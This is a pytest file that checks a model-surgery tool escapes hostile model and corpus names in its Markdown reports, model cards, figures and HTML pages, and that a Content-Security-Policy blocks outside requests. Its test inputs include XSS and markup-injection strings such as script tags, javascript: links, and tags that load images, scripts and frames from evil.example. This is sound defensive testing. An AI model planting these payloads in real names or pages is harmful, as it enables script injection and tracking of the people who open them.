"""Nothing remote, nothing active, from a name (issue 51): a model, corpus or file name enters the
Markdown the tools write (report.md, the model cards) only escaped, the page's Markdown follows
no link or image off the machine, and every page opened from disk in Chromium with such names
requests nothing outside it and shows the names as typed."""

from __future__ import annotations

import dataclasses
import html
import json
import re
import shutil
from html.parser import HTMLParser

import pytest
from conftest import NO_CHROMIUM, TEXT
from markdown_it import MarkdownIt

from headsurgeon import plots
from headsurgeon.checkpoints import model_card
from headsurgeon.errors import shown
from headsurgeon.loading import ModelShape, model_info, random_model
from headsurgeon.markup import markdown_text
from headsurgeon.reports import PAGE, open_pages
from headsurgeon.reports.page import summary_html
from headsurgeon.surgery import save_pruned

needs_browser = pytest.mark.skipif(not plots.has_browser(), reason=NO_CHROMIUM)

# Names as an API caller may give them (a model's name may hold slashes): each one, left as
# Markdown or HTML, would load a remote resource, run a script or become a live link.
HOSTILE = [
    "![t](http://evil.example/x.png)",
    "<img src=http://evil.example/y>",
    "[a](javascript:alert(1))",
    "<script>alert(1)</script>",
    "![t](http:evil.example)",
    "<http://evil.example/auto>",
    "[r]\n\n[r]: http://evil.example/ref",
    "www.evil.example a@evil.example",
    "`x` **b** &lt;img src=http://evil.example/e&gt;",
    "- item\n# heading | cell",
    '<a href="http://evil.example/z">z</a>',
    "x __y__ z _w_ a_b (_c_) *d* ~~e~~ ~f~",
    "1. item",
    "WWW.evil.example +x =y $x$ :smile: a&amp;b &#60;img&#62;",
    "Heads #",
]
# Folder and file names hold no "/": the same attacks, as a folder or corpus file may be named.
MODEL = "![t](http:evil.example)<img src=http:evil.example>"
CORPUS = "[a](javascript:alert(1))<script><http:evil.example>"
OTHER = "<a href=http:evil.example>a<\\a> www.evil.example $x$ ~~s~~"


class _Seen(HTMLParser):
    """The tags and the text of rendered HTML (entities decoded)."""

    def __init__(self, markup: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict]] = []
        self.text = ""
        self.feed(markup)

    def handle_starttag(self, tag: str, attrs: list) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text += data


def as_hugging_face(markdown: str) -> _Seen:
    """``markdown`` rendered as a model card's reader sees it: raw HTML allowed, with tables
    and strike-through."""
    md = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
    return _Seen(md.render(markdown))


@pytest.mark.parametrize("name", HOSTILE)
def test_a_name_in_markdown_is_one_paragraph_of_its_own_text(name):
    seen = as_hugging_face(markdown_text(name))
    assert [tag for tag, _ in seen.tags] == ["p"]  # no link, image, heading, list, cell, tag
    assert seen.text.strip() == shown(name, keep="")  # as typed; a line break as \n


def test_readable_names_stay_readable():
    """The terminal prints report.md's first lines: everyday names are not backslashed."""
    for name in ("bigscience/bloom-560m", "organism-injured", "my_model_v1.1b+lora", "1.1b"):
        assert markdown_text(name) == name


@pytest.mark.parametrize("name", HOSTILE)
def test_the_model_card_shows_a_hostile_name_as_text(name):
    info = dataclasses.replace(
        model_info(random_model(ModelShape(1, 2, 8, 16, 8))), name=name, source=None
    )
    card = model_card(info, {"model_type": "bloom", "dtype": "float32"}, verified=True)
    body = card.split("---\n", 2)[2]
    seen = as_hugging_face(body)
    assert {tag for tag, _ in seen.tags} <= {"h1", "p", "code"}
    assert f"{shown(name, keep='')}, exported by headsurgeon" in seen.text
    assert f"from {shown(name, keep='')}: the weights" in seen.text


def test_a_pruned_models_card_shows_a_hostile_name_as_text(tmp_path):
    model = random_model(ModelShape(1, 2, 8, 16, 8))
    name = HOSTILE[0] + HOSTILE[1]
    model.headsurgeon_info = dataclasses.replace(model_info(model), name=name)  # as if loaded
    folder = save_pruned(model, "L0H1", tmp_path / "pruned", verify=False)
    seen = as_hugging_face((folder / "README.md").read_text().split("---\n", 2)[2])
    assert {tag for tag, _ in seen.tags} <= {"h1", "h2", "p", "code"}
    assert f"every other weight is {name}'s" in seen.text


@pytest.mark.parametrize("markdown", HOSTILE)
def test_the_pages_markdown_follows_no_link_off_the_machine_even_unescaped(markdown):
    """A Markdown file the tool did not escape still loads and links nothing outside."""
    own = "![figure](training.png) [data](heads.csv)"
    seen = _Seen(summary_html(f"{markdown}\n\n{own}", "markdown"))
    addresses = [a.get("href", a.get("src")) for _, a in seen.tags if {"href", "src"} & set(a)]
    assert addresses == ["training.png", "heads.csv"]  # the folder's own files still shown


@pytest.fixture(scope="module")
def hostile_runs(bloom_dir, tmp_path_factory):
    """classify (one corpus, and two), blindness and repair from the command line on a copy of
    ``bloom_dir`` in a folder named :data:`MODEL`, reading corpora named :data:`CORPUS` and
    :data:`OTHER`: ``{tool: output folder}``. No png figures (a second each)."""
    from choreographer.browsers.chromium import Chromium

    from headsurgeon.cli.blindness import main as blindness_main
    from headsurgeon.cli.classify import main as classify_main
    from headsurgeon.cli.repair import main as repair_main

    root = tmp_path_factory.mktemp("hostile-names")
    model = str(shutil.copytree(bloom_dir, root / "home" / MODEL))
    (root / "texts").mkdir()
    corpus = root / "texts" / f"{CORPUS}.txt"
    corpus.write_text(TEXT)
    (root / "texts" / f"{OTHER}.txt").write_text(TEXT[::-1])
    data = ["--texts", str(corpus), "--seq-len", "32", "--n-seqs", "8", "--prepend-bos"]
    repair = ["--corpus", str(corpus), "--eval-corpus", str(corpus), "--train-seq-len", "32"]
    repair += ["--allow-eval-on-train"]  # one tiny text for everything
    repair += ["--batch-size", "4", "--steps", "4", "--lr", "1e-2", "--passes", "1"]
    repair += ["--heads", "L1H3", "--no-control", "--max-collateral", "8", "--quiet", *data]
    both = [*data, "--texts", str(root / "texts" / f"{OTHER}.txt")]
    runs = {
        "classify": (classify_main, data),
        "corpora": (classify_main, both),
        "blindness": (blindness_main, ["--measure", *data]),
        "repair": (repair_main, repair),
    }
    outs = {tool: root / tool for tool in runs}
    with pytest.MonkeyPatch.context() as patch:
        patch.delenv("BROWSER_PATH", raising=False)
        patch.setattr(Chromium, "find_browser", classmethod(lambda cls, **kwargs: None))
        for tool, (main, args) in runs.items():
            assert main([model, *args, "--out", str(outs[tool])]) == 0
    return outs


def test_report_md_and_the_repairs_model_card_hold_the_names_only_escaped(hostile_runs):
    repair = hostile_runs["repair"]
    report = as_hugging_face((repair / "report.md").read_text(encoding="utf-8"))
    card = as_hugging_face((repair / "model" / "README.md").read_text(encoding="utf-8"))
    for seen in (report, card):
        assert not {"a", "img", "script"} & {tag for tag, _ in seen.tags}
        assert f"Repair of {MODEL}" in seen.text
    assert f"{MODEL}, exported by headsurgeon" in card.text
    assert CORPUS in report.text  # in the settings block, as typed


def pages(outs: dict) -> list:
    """Every page the runs wrote: one per tool, and one per corpus of a run on several."""
    return [out / PAGE for out in outs.values()] + sorted(outs["corpora"].glob(f"*/{PAGE}"))


def strings(value: object) -> list[str]:
    """Every string in a figure's JSON: titles, names, labels, hover templates."""
    if isinstance(value, dict):
        return [s for v in value.values() for s in strings(v)]
    if isinstance(value, list):
        return [s for v in value for s in strings(v)]
    return [value] if isinstance(value, str) else []


def test_no_figure_holds_a_name_as_markup(hostile_runs):
    """plotly reads tags in titles, legends and labels (<a href> is a live link there): names
    reach a figure as entities."""
    figures = {}
    for page in pages(hostile_runs):
        text = page.read_text(encoding="utf-8")
        found = re.search(r'<script type="application/json" id="data">(.*?)</script>', text, re.S)
        data = json.loads(found[1])
        figures[page] = "\n".join(strings([data["grid"], *(f["figure"] for f in data["figures"])]))
        for tag in ("<img", "<script", "<a ", "<a\u00a0"):
            assert tag not in figures[page].lower(), (page, tag)
    assert len(figures) == 6
    assert html.escape(MODEL, quote=False) in figures[hostile_runs["repair"] / PAGE]


# Markup a future escaping bug could let through: the page's Content-Security-Policy still loads
# none of it (an image, a style sheet, a script, a frame).
TAMPERED = (
    '<img src="http://evil.example/csp.png"><link rel="stylesheet" href="http://evil.example/c">'
    '<script src="http://evil.example/s.js"></script><iframe src="http://evil.example/f"></iframe>'
)


@needs_browser
@pytest.mark.slow
def test_pages_with_hostile_names_request_nothing_off_the_machine_and_show_them(hostile_runs):
    """The issue's acceptance: every page, opened from disk in headless Chromium and clicked,
    asks only for file: and data: URLs, runs nothing, and shows the names as typed; and a page
    with raw markup pasted in sends no request (its Content-Security-Policy)."""
    tampered = hostile_runs["classify"].parent / "tampered.html"
    page = (hostile_runs["classify"] / PAGE).read_text(encoding="utf-8")
    tampered.write_text(page.replace('<div id="summary">', f'<div id="summary">{TAMPERED}'))
    *views, csp = open_pages([*pages(hostile_runs), tampered], "L1H3")  # one browser start
    for page, view in zip(pages(hostile_runs), views, strict=True):
        outside = [url for url in view.requests if not url.startswith(("file:", "data:"))]
        assert outside == [], (page, outside)
        assert (view.errors, view.dialogs, view.shown) == ([], [], "L1H3"), page
        assert MODEL in view.title and view.document_title == view.title, page
        assert MODEL in view.summary, page
    repair = views[list(hostile_runs).index("repair")]  # report.md, rendered
    assert f"Repair of {MODEL}" in repair.summary and CORPUS in repair.summary
    assert [url for url in csp.requests if not url.startswith(("file:", "data:"))] == []
    # Asked for and refused by the browser before sending; the frame is refused unasked.
    assert sorted(csp.blocked) == [f"http://evil.example/{x}" for x in ("c", "csp.png", "s.js")]
    assert csp.shown == "L1H3" and len([e for e in csp.errors if "Security Policy" in e]) == 4
